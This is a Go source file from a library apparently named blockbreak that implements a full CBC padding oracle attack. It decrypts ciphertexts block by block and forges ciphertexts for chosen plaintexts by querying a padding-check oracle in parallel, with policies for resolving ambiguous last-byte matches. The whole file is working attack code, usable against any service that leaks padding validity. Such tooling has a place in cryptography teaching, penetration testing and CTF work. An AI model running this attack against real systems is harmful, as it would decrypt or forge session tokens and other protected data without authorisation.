package blockbreak

import (
	"context"
	"fmt"
	"log"
	"sort"
	"sync"

	"github.com/manelmontilla/blockbreak/crypto"
)

// MatchPolicy decides which candidate wins when more than one helper byte
// gives valid padding. That only happens for the last byte of a block, when
// the plaintext also ends in something like 0x02 0x02 under the guess.
type MatchPolicy int

const (
	// ConfirmMatch re-queries every candidate for the last byte with the
	// byte before it perturbed. Only a real 0x01 pad survives.
	ConfirmMatch MatchPolicy = iota

	// FirstMatch takes the lowest valid candidate.
	FirstMatch

	// LastMatch takes the highest valid candidate.
	LastMatch

	// AdaptiveMatch decrypts the block with FirstMatch and redoes it with
	// LastMatch when the second to last byte looks like padding.
	AdaptiveMatch
)

func (p MatchPolicy) String() string {
	switch p {
	case ConfirmMatch:
		return "confirm"
	case FirstMatch:
		return "first"
	case LastMatch:
		return "last"
	case AdaptiveMatch:
		return "adaptive"
	}
	return fmt.Sprintf("MatchPolicy(%d)", int(p))
}

// PaddingAttack decrypts, or forges, CBC ciphertexts using only a padding
// oracle.
type PaddingAttack struct {
	Oracle PaddingChecker

	// BlockSize defaults to DefaultBlockSize.
	BlockSize int

	Policy MatchPolicy

	// Workers is the number of goroutines querying the oracle for the
	// candidates of one byte. Bytes are always solved one after the other.
	// Defaults to DefaultWorkers.
	Workers int

	Logger *log.Logger
}

// NewPaddingAttack returns an attack against q with the default settings. It
// uses the logger l to write info about the status of the attack.
func NewPaddingAttack(q PaddingChecker, l *log.Logger) *PaddingAttack {
	return &PaddingAttack{
		Oracle:    q,
		BlockSize: DefaultBlockSize,
		Policy:    ConfirmMatch,
		Workers:   DefaultWorkers,
		Logger:    l,
	}
}

func (a *PaddingAttack) blockSize() int {
	if a.BlockSize > 0 {
		return a.BlockSize
	}
	return DefaultBlockSize
}

func (a *PaddingAttack) workers() int {
	if a.Workers > 0 {
		return a.Workers
	}
	return DefaultWorkers
}

// Decrypt recovers the plaintext of the ciphertext c encrypted with iv. The
// result still carries its PKCS#7 padding.
func (a *PaddingAttack) Decrypt(iv, c []byte) ([]byte, error) {
	bs := a.blockSize()
	n := len(c) / bs
	if bs < 2 || len(iv) != bs || n < 1 || len(c)%bs != 0 {
		return nil, ErrInvalidCiphertext
	}
	l := discardLogger(a.Logger)
	m := make([]byte, len(c))
	// Last block first, the one before is the helper we tamper with.
	for i := n - 1; i >= 0; i-- {
		prev := iv
		if i > 0 {
			prev = c[(i-1)*bs : i*bs]
		}
		l.Printf("decrypting block %d of %d", i+1, n)
		mi, err := a.decryptBlock(prev, c[i*bs:(i+1)*bs])
		if err != nil {
			return nil, fmt.Errorf("block %d: %w", i, err)
		}
		copy(m[i*bs:], mi)
	}
	return m, nil
}

// Forge returns an iv and a ciphertext that the oracle's key decrypts to p.
func (a *PaddingAttack) Forge(p []byte) (iv, c []byte, err error) {
	bs := a.blockSize()
	if bs < 2 {
		return nil, nil, ErrInvalidCiphertext
	}
	m := crypto.Pad(p, bs)
	n := len(m) / bs
	zero := make([]byte, bs)

	// Last block of the encrypted value is not related to the
	// text to encrypt, can contain any value.
	cur := make([]byte, bs)
	c = append(c, cur...)
	for i := n - 1; i >= 0; i-- {
		// With a zero helper the "plaintext" is the raw block decryption.
		d, err := a.decryptBlock(zero, cur)
		if err != nil {
			return nil, nil, fmt.Errorf("block %d: %w", i, err)
		}
		cur = crypto.BlockXOR(m[i*bs:(i+1)*bs], d)
		if i > 0 {
			c = append(append([]byte{}, cur...), c...)
		}
	}
	return cur, c, nil
}

func (a *PaddingAttack) decryptBlock(prev, current []byte) ([]byte, error) {
	if a.Policy != AdaptiveMatch {
		return a.solveBlock(prev, current, a.Policy)
	}
	mi, err := a.solveBlock(prev, current, FirstMatch)
	if err != nil {
		return nil, err
	}
	bs := len(current)
	if mi[bs-2] <= byte(bs) {
		return a.solveBlock(prev, current, LastMatch)
	}
	return mi, nil
}

// solveBlock recovers current xor'ed with prev, from the last byte to the
// first.
func (a *PaddingAttack) solveBlock(prev, current []byte, policy MatchPolicy) ([]byte, error) {
	l := discardLogger(a.Logger)
	bs := len(current)
	mi := make([]byte, bs)
	helper := append([]byte{}, prev...)
	for p := bs - 1; p >= 0; p-- {
		pad := byte(bs - p)
		// Make the bytes already solved decrypt to the new pad.
		for j := p + 1; j < bs; j++ {
			helper[j] = prev[j] ^ mi[j] ^ pad
		}
		found, err := a.candidates(helper, current, p, prev[p])
		if err != nil {
			return nil, err
		}
		g, ok, err := a.pick(found, helper, current, p, policy)
		if err != nil {
			return nil, err
		}
		if !ok {
			// Nothing but the untouched byte gives valid padding, so the
			// plaintext byte already equals the pad.
			g = prev[p]
		}
		mi[p] = g ^ prev[p] ^ pad
		l.Printf("decrypted byte %d value: %d", p, mi[p])
	}
	return mi, nil
}

// pick chooses among the valid candidates for byte p. It returns false when
// no candidate is acceptable.
func (a *PaddingAttack) pick(found []byte, helper, current []byte, p int, policy MatchPolicy) (byte, bool, error) {
	switch {
	case policy == ConfirmMatch && p == len(current)-1 && p > 0:
		for _, g := range found {
			try := append([]byte{}, helper...)
			try[p] = g
			try[p-1] ^= 0xff
			ok, err := a.Oracle.CheckPadding(try, current)
			if err != nil {
				return 0, false, err
			}
			if ok {
				return g, true, nil
			}
		}
		return 0, false, nil
	case len(found) == 0:
		return 0, false, nil
	case policy == LastMatch:
		return found[len(found)-1], true, nil
	default:
		return found[0], true, nil
	}
}

// candidates returns, sorted, every value of helper byte p other than skip
// for which the oracle reports valid padding.
func (a *PaddingAttack) candidates(helper, current []byte, p int, skip byte) ([]byte, error) {
	// Generate a channel with values from 0 to 255.
	values := make(chan byte, 256)
	for g := 0; g < 256; g++ {
		if byte(g) == skip {
			continue
		}
		values <- byte(g)
	}
	close(values)

	// Create workers.
	var wg sync.WaitGroup
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	workers := a.workers()
	done := make(chan checkValueRes, 256+workers)
	for i := 0; i < workers; i++ {
		wg.Add(1)
		w := oracleWorker{ctx, cancel, &wg, helper, current, a.Oracle, p, values, done}
		go w.checkValuePad()
	}

	// Wait until all the workers have finished.
	wg.Wait()
	close(done)

	// Get the results from the done channel.
	var found []byte
	for res := range done {
		if res.Err != nil {
			return nil, res.Err
		}
		found = append(found, res.Res)
	}
	sort.Slice(found, func(i, j int) bool { return found[i] < found[j] })
	return found, nil
}

type checkValueRes struct {
	Err error
	Res byte
}

type oracleWorker struct {
	ctx             context.Context
	cancel          context.CancelFunc
	wg              *sync.WaitGroup
	helper, current []byte
	querier         PaddingChecker
	p               int
	read            <-chan byte
	done            chan<- checkValueRes
}

func (o oracleWorker) checkValuePad() {
	defer o.wg.Done()
	try := append([]byte{}, o.helper...)
LOOP:
	for {
		select {
		case g, open := <-o.read:
			if !open {
				break LOOP
			}
			try[o.p] = g
			ok, err := o.querier.CheckPadding(try, o.current)
			if err != nil {
				o.done <- checkValueRes{Err: err}
				o.cancel()
				break LOOP
			}
			if ok {
				o.done <- checkValueRes{Res: g}
			}
		case <-o.ctx.Done():
			break LOOP
		}
	}
}
